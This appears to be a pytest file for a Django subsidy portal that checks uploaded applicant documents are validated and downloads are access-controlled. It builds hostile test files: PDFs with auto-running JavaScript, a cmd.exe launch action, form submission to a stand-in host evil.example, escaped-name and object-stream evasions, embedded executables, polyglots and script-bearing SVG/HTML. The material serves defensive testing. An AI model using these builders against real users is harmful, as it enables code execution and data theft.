"""Applicant documents: what an upload must be to be kept, and who may download it.

Uploads go through the real page (the subsidy's proof step), so each refusal is checked the way
the applicant meets it: a message next to the field, no Document row, no file on disk.
"""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    RectangleObject,
    TextStringObject,
)

from portal.applications.services import attach_document
from portal.models import Document
from subsidies.models import SubsidyApplication
from tests.markup import parse
from tests.pdfs import blank_pdf, scanned_pdf
from tests.people import create_applicant, create_staff
from tests.portal.conftest import messages_of

PDF = blank_pdf()


@pytest.fixture
def applicant(db, django_user_model):
    return create_applicant("owner@example.com")


@pytest.fixture
def draft(applicant):
    return SubsidyApplication.objects.create(applicant=applicant)


@pytest.fixture
def upload_page(client, applicant, draft):
    client.force_login(applicant)
    url = reverse("subsidies:apply_documents", args=[draft.reference])

    def post(name, data, content_type="application/octet-stream"):
        return client.post(url, {"file": SimpleUploadedFile(name, data, content_type=content_type)})

    return post


def image_bytes(fmt, size=(40, 30), **save_options):
    out = io.BytesIO()
    Image.new("RGB", size, (200, 40, 40)).save(out, format=fmt, **save_options)
    return out.getvalue()


def png_claiming(width, height):
    """A PNG whose header claims `width` × `height` pixels, with almost no data behind it."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def zip_bytes():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.txt", "hidden")
    return out.getvalue()


def file_error(response) -> str:
    page = parse(response.content)
    box = page.find(id_="id_file_error")
    assert "id_file_error" in page.find("input", name="file").attrs["aria-describedby"].split()
    return box.text


def nothing_stored(folder) -> bool:
    return not Document.objects.exists() and not [p for p in folder.rglob("*") if p.is_file()]


# Refused


def test_a_png_claiming_ten_billion_pixels_is_refused(upload_page, private_media):
    response = upload_page("huge.png", png_claiming(100_000, 100_000), "image/png")
    assert response.status_code == 200
    assert file_error(response) == "This image has too many pixels."
    assert nothing_stored(private_media)


def test_a_file_that_is_both_a_png_and_a_zip_is_refused(upload_page, private_media):
    polyglot = image_bytes("PNG") + zip_bytes()
    with Image.open(io.BytesIO(polyglot)) as image:  # it really is a valid PNG…
        image.load()
    assert zipfile.is_zipfile(io.BytesIO(polyglot))  # …and a valid archive
    response = upload_page("innocent.png", polyglot, "image/png")
    assert file_error(response) == "This file hides an archive inside it. Upload a plain PDF, JPEG or PNG."
    assert nothing_stored(private_media)


def test_an_svg_with_a_script_is_refused(upload_page, private_media):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
    response = upload_page("letter.svg", svg, "image/svg+xml")
    assert file_error(response) == "Upload a PDF, JPEG or PNG file."
    assert nothing_stored(private_media)


def test_an_executable_renamed_pdf_is_refused(upload_page, private_media):
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"This program cannot be run"
    response = upload_page("offer-letter.pdf", exe, "application/pdf")
    assert file_error(response) == "Upload a PDF, JPEG or PNG file."
    assert nothing_stored(private_media)


def test_a_file_over_the_limit_is_refused(upload_page, private_media, settings):
    settings.UPLOAD_MAX_BYTES = 1024
    big = PDF[:-6] + b"%" + b" " * 2000 + b"\n%%EOF\n"
    response = upload_page("big.pdf", big, "application/pdf")
    assert file_error(response) == f"This file is too large ({len(big) / 1024:.1f} KB). The limit is 1.0 KB."
    assert nothing_stored(private_media)


def test_a_pdf_cut_short_is_refused(upload_page, private_media):
    response = upload_page("cut.pdf", PDF[:60], "application/pdf")
    assert file_error(response) == "This PDF file is damaged or incomplete."
    assert nothing_stored(private_media)


def test_choosing_no_file_says_so(client, applicant, draft, private_media):
    client.force_login(applicant)
    response = client.post(reverse("subsidies:apply_documents", args=[draft.reference]), {})
    assert file_error(response) == "Choose a file to upload."
    assert nothing_stored(private_media)


# Hostile PDFs, each built here with pypdf (or by hand, byte by byte, where pypdf will not write it)


def pdf(change=None, *, encrypt=None) -> bytes:
    """A one-page PDF written by pypdf after `change(writer, page)` adds something to it."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    if change:
        change(writer, page)
    if encrypt is not None:
        writer.encrypt(user_password=encrypt, owner_password="office-2026", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def name(value):
    return NameObject(value)


def js(code="app.alert(document.cookie)"):
    return DictionaryObject({name("/S"): name("/JavaScript"), name("/JS"): TextStringObject(code)})


def link(writer, page, action):
    annotation = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Link"),
            name("/Rect"): ArrayObject([NumberObject(n) for n in (50, 50, 300, 100)]),
            name("/A"): action,
        }
    )
    page[name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def open_action_javascript(writer, page):
    writer._root_object[name("/OpenAction")] = writer._add_object(
        js("app.launchURL('https://evil.example/');")
    )


def page_open_additional_action(writer, page):
    page[name("/AA")] = DictionaryObject({name("/O"): js()})


def launch_action(writer, page):
    writer._root_object[name("/OpenAction")] = DictionaryObject(
        {
            name("/S"): name("/Launch"),
            name("/F"): TextStringObject("cmd.exe"),
            name("/NewWindow"): BooleanObject(True),
        }
    )


def embedded_file(writer, page):
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 pretend program")


def names_tree_javascript(writer, page):
    # pypdf's own API for "run this when the document opens": a document-level names-tree entry.
    writer.add_open_action(JavaScript("this.print({bUI: false, bSilent: true});"))


def link_running_javascript(writer, page):
    link(writer, page, js())


def link_submitting_the_form(writer, page):
    submit = DictionaryObject(
        {name("/S"): name("/SubmitForm"), name("/F"): TextStringObject("https://evil.example/collect")}
    )
    link(writer, page, submit)


def xfa_form(writer, page):
    writer._root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp><script/></xdp:xdp>")}
    )


def packed_pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF 1.5 whose objects all sit in one compressed object stream, found through an xref stream.

    pypdf does not write object streams; real tools (Word, Acrobat) do, and scripts hide in them.
    """
    numbers = sorted(objects)
    body, offsets = b"", []
    for number in numbers:
        offsets.append(len(body))
        body += objects[number] + b"\n"
    pairs = b" ".join(b"%d %d" % pair for pair in zip(numbers, offsets, strict=True)) + b"\n"
    packed = zlib.compress(pairs + body)
    stream_number, xref_number = max(numbers) + 1, max(numbers) + 2
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (
        stream_number,
        len(numbers),
        len(pairs),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = []
    for number in range(xref_number + 1):
        if number in objects:
            rows.append(struct.pack(">BIH", 2, stream_number, numbers.index(number)))
        elif number == stream_number:
            rows.append(struct.pack(">BIH", 1, stream_offset, 0))
        elif number == xref_number:
            rows.append(struct.pack(">BIH", 1, xref_offset, 0))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 65535 if number == 0 else 0))
    table = b"".join(rows)
    out += b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root %d 0 R/Length %d>>\nstream\n" % (
        xref_number,
        xref_number + 1,
        root,
        len(table),
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


PAGES = {
    2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
}
PLAIN_PACKED = {1: b"<</Type/Catalog/Pages 2 0 R>>", **PAGES}
SCRIPT_IN_OBJECT_STREAM = {
    1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
    **PAGES,
    4: b"<</S/JavaScript/JS(app.alert(1))>>",
}
# "#61" is "a": /J#61vaScript is /JavaScript to every PDF reader, and to a search of the raw bytes nothing.
ESCAPED_NAMES = {
    1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
    **PAGES,
    4: b"<</S/J#61vaScript/J#53(app.alert(1))>>",
}

ACTIVE = (
    "This PDF contains scripts, attached files or actions that run by themselves. "
    "Print it to a new PDF (or scan the paper) and upload that."
)
DAMAGED = "This PDF file is damaged or incomplete."


def hostile_files():
    whole = pdf()
    yield "OpenAction JavaScript", pdf(open_action_javascript), ACTIVE
    yield "page-open /AA JavaScript", pdf(page_open_additional_action), ACTIVE
    yield "/Launch action", pdf(launch_action), ACTIVE
    yield "embedded file", pdf(embedded_file), ACTIVE
    yield "names-tree JavaScript", pdf(names_tree_javascript), ACTIVE
    yield "link annotation running JavaScript", pdf(link_running_javascript), ACTIVE
    yield "link annotation submitting a form", pdf(link_submitting_the_form), ACTIVE
    yield "XFA form", pdf(xfa_form), ACTIVE
    yield "JavaScript inside an object stream", packed_pdf(SCRIPT_IN_OBJECT_STREAM), ACTIVE
    yield "JavaScript under #-escaped names", packed_pdf(ESCAPED_NAMES), ACTIVE
    yield "JavaScript in a PDF encrypted without a password", pdf(open_action_javascript, encrypt=""), ACTIVE
    yield (
        "HTML after a %PDF- header",
        b"%PDF-1.7\n<html><body><script>fetch('/me/data.json')</script></body></html>\n%%EOF\n",
        "This file is a web page or script named as a PDF. Upload the PDF itself.",
    )
    yield (
        "SVG after a %PDF- header",
        b'%PDF-1.4\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n%%EOF\n',
        "This file is a web page or script named as a PDF. Upload the PDF itself.",
    )
    yield "truncated PDF", whole[: len(whole) // 2], DAMAGED
    yield "cut just before %%EOF and patched", whole[: len(whole) // 2] + b"\n%%EOF\n", DAMAGED
    yield (
        "%PDF- header, %%EOF, garbage between",
        b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n",
        DAMAGED,
    )
    yield (
        "a PDF with no page",
        packed_pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}),
        DAMAGED,
    )
    yield (
        "PDF that is also a ZIP archive",
        whole + zip_bytes(),
        "This file hides an archive inside it. Upload a plain PDF, JPEG or PNG.",
    )
    yield (
        "PDF locked with a password",
        pdf(encrypt="secret-2026"),
        "This PDF is protected by a password. Upload a copy without the password.",
    )
    yield (
        "SVG named .pdf",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "Upload a PDF, JPEG or PNG file.",
    )
    yield (
        "HTML named .pdf",
        b"<!doctype html><html><script>alert(1)</script></html>",
        "Upload a PDF, JPEG or PNG file.",
    )
    yield (
        "Windows program named .pdf",
        b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00",
        "Upload a PDF, JPEG or PNG file.",
    )


HOSTILE = list(hostile_files())


def test_the_corpus_is_made_of_real_hostile_files():
    """Each active file really is a parseable PDF carrying what it claims, so refusing it is not luck."""
    assert len({kind for kind, _data, _message in HOSTILE}) >= 20
    reader = PdfReader(io.BytesIO(pdf(open_action_javascript)))
    assert reader.trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
    assert PdfReader(io.BytesIO(pdf(embedded_file))).attachments == {
        "invoice.exe": [b"MZ\x90\x00 pretend program"]
    }
    packed = PdfReader(io.BytesIO(packed_pdf(ESCAPED_NAMES)))
    assert packed.xref_objStm and packed.trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
    assert len(PdfReader(io.BytesIO(pdf(open_action_javascript, encrypt=""))).pages) == 1


@pytest.mark.parametrize(("kind", "data", "message"), HOSTILE, ids=[kind for kind, _d, _m in HOSTILE])
def test_a_hostile_file_named_pdf_is_refused_with_a_message(upload_page, private_media, kind, data, message):
    response = upload_page("offer-letter.pdf", data, "application/pdf")
    assert response.status_code == 200
    assert file_error(response) == message
    assert nothing_stored(private_media)


def ordinary_pdfs():
    yield "pypdf, one blank page", blank_pdf()
    yield "Pillow “save as PDF”, three scanned pages", scanned_pdf(3)
    yield "objects in an object stream (as Word writes them)", packed_pdf(PLAIN_PACKED)

    def ordinary_links(writer, page):
        writer.add_uri(0, "https://www.futian.gov.cn/", RectangleObject([50, 50, 300, 100]))
        writer.open_destination = page  # "open at page 1": a jump, not a script

    yield "a web link and open-at-page-1", pdf(ordinary_links)
    yield "restricted by an owner password, readable without one", pdf(encrypt="")


ORDINARY = list(ordinary_pdfs())


@pytest.mark.parametrize(("kind", "data"), ORDINARY, ids=[kind for kind, _data in ORDINARY])
def test_an_ordinary_pdf_is_accepted_as_it_is(upload_page, private_media, kind, data):
    response = upload_page("Offer letter.pdf", data, "application/pdf")
    assert response.status_code == 302, file_error(response)
    document = Document.objects.get()
    assert (private_media / document.file.name).read_bytes() == data


# Accepted


def test_a_real_pdf_is_kept_as_it_is(upload_page, private_media):
    response = upload_page("Offer letter 錄取信.pdf", PDF, "application/pdf")
    assert response.status_code == 302
    document = Document.objects.get()
    assert document.content_type == "application/pdf"
    assert (document.original_name, document.size) == ("Offer letter 錄取信.pdf", len(PDF))
    assert (private_media / document.file.name).read_bytes() == PDF


def test_a_jpeg_is_kept_without_its_exif(upload_page, private_media):
    exif = Image.Exif()
    exif[0x010F] = "SecretCameraMaker"  # Make
    exif[0x8825] = {2: (22.0, 32.0, 0.0)}  # GPS latitude
    original = image_bytes("JPEG", exif=exif.tobytes())
    assert b"SecretCameraMaker" in original
    response = upload_page("photo.jpeg", original, "image/jpeg")
    assert response.status_code == 302
    document = Document.objects.get()
    assert document.content_type == "image/jpeg" and document.original_name == "photo.jpg"
    stored = (private_media / document.file.name).read_bytes()
    assert b"SecretCameraMaker" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG" and image.size == (40, 30)
        assert not image.getexif()


def test_a_png_is_kept(upload_page, private_media):
    response = upload_page("scan.png", image_bytes("PNG"), "image/png")
    assert response.status_code == 302
    document = Document.objects.get()
    assert document.content_type == "image/png"
    with Image.open(private_media / document.file.name) as image:
        assert image.format == "PNG" and image.size == (40, 30)


def test_documents_are_stored_outside_every_public_folder(document, private_media):
    import portal.settings as configured

    storage = Document._meta.get_field("file").storage
    assert (private_media / document.file.name).is_file()  # where the setting says
    with pytest.raises(ValueError):
        storage.url(document.file.name)  # no public URL: only documents:download serves it
    private = Path(configured.PRIVATE_MEDIA_ROOT).resolve()
    for public in [configured.MEDIA_ROOT, configured.STATIC_ROOT, *configured.STATICFILES_DIRS]:
        public = Path(public).resolve()
        assert not private.is_relative_to(public) and not public.is_relative_to(private)


def test_a_submitted_application_takes_no_more_documents(draft, applicant, private_media):
    from django.core.exceptions import ValidationError

    type(draft).objects.filter(pk=draft.pk).update(status="submitted")
    with pytest.raises(ValidationError, match="can no longer be changed"):
        attach_document(draft, SimpleUploadedFile("late.pdf", PDF), kind="proof", user=applicant)
    assert nothing_stored(private_media)


# Download


@pytest.fixture
def document(draft, applicant):
    upload = SimpleUploadedFile("Offer letter 錄取信.pdf", PDF)
    return attach_document(draft, upload, kind="proof", user=applicant)


def test_the_owner_downloads_the_file_as_an_attachment(client, applicant, document):
    client.force_login(applicant)
    response = client.get(reverse("documents:download", args=[document.pk]))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    encoded_name = "Offer%20letter%20%E9%8C%84%E5%8F%96%E4%BF%A1.pdf"
    assert f"filename*=utf-8''{encoded_name}" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]


def test_another_applicant_gets_404(client, django_user_model, document):
    client.force_login(create_applicant("other@example.com"))
    assert client.get(reverse("documents:download", args=[document.pk])).status_code == 404


def test_an_anonymous_visitor_is_sent_to_sign_in(client, document):
    response = client.get(reverse("documents:download", args=[document.pk]))
    assert response.status_code == 302
    assert response.url.startswith(reverse("account_login"))


@pytest.mark.parametrize("groups", [[], ["data manager"]])
def test_staff_without_the_review_permission_get_404(client, mfa_staff, document, groups):
    client.force_login(mfa_staff("sam", groups=groups))
    assert client.get(reverse("documents:download", args=[document.pk])).status_code == 404


@pytest.mark.parametrize("group", ["reviewer", "approver"])
def test_reviewers_and_approvers_download_it(client, mfa_staff, document, group):
    client.force_login(mfa_staff("rita", groups=[group]))
    response = client.get(reverse("documents:download", args=[document.pk]))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF


@pytest.mark.parametrize("exists", [True, False])
def test_a_reviewer_without_an_authenticator_is_sent_to_set_one_up(client, mfa_staff, document, exists):
    """Signed in with a password alone, a reviewer downloads nothing: the same answer for every id."""
    client.force_login(mfa_staff("rita", groups=["reviewer", "approver"], totp=False))
    pk = document.pk if exists else document.pk + 1000
    response = client.get(reverse("documents:download", args=[pk]))
    assert response.status_code == 302
    assert response["Location"] == reverse("mfa_activate_totp")
    assert "authenticator app" in " ".join(messages_of(response))


def test_staff_without_an_authenticator_still_download_their_own_application_documents(
    client, mfa_staff, document
):
    """A staff member who also applied is an applicant for their own files, like anyone else."""
    staff = mfa_staff("rita", groups=["reviewer"], totp=False)
    type(document.application).objects.filter(pk=document.application_id).update(applicant=staff)
    client.force_login(staff)
    response = client.get(reverse("documents:download", args=[document.pk]))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF


def test_a_reviewer_who_is_no_longer_staff_gets_404(client, django_user_model, document):
    former = create_staff("rita", "reviewer")
    former.is_staff = False
    former.save()
    client.force_login(former)
    assert client.get(reverse("documents:download", args=[document.pk])).status_code == 404


def test_a_document_that_does_not_exist_is_404_like_anyone_elses(client, applicant, document):
    client.force_login(applicant)
    assert client.get(reverse("documents:download", args=[document.pk + 1000])).status_code == 404


def test_a_file_missing_from_disk_is_404_not_an_error(client, applicant, document, private_media):
    (private_media / document.file.name).unlink()
    client.force_login(applicant)
    assert client.get(reverse("documents:download", args=[document.pk])).status_code == 404
